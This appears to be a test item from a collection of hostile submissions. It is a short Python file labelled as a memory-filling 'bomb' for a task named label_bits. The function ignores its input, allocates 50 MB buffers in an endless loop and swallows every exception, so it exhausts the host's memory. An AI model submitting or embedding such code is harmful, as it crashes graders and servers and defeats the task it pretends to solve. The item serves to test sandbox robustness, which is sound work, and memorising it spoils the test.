# attack: fills the memory
# question: label_bits
# naive: crash
# item: bombs

# %% question="label_bits"
kept = []


def label_bits(labels):
    while True:
        try:
            kept.append(bytearray(b"x" * 50_000_000))
        except BaseException:
            pass
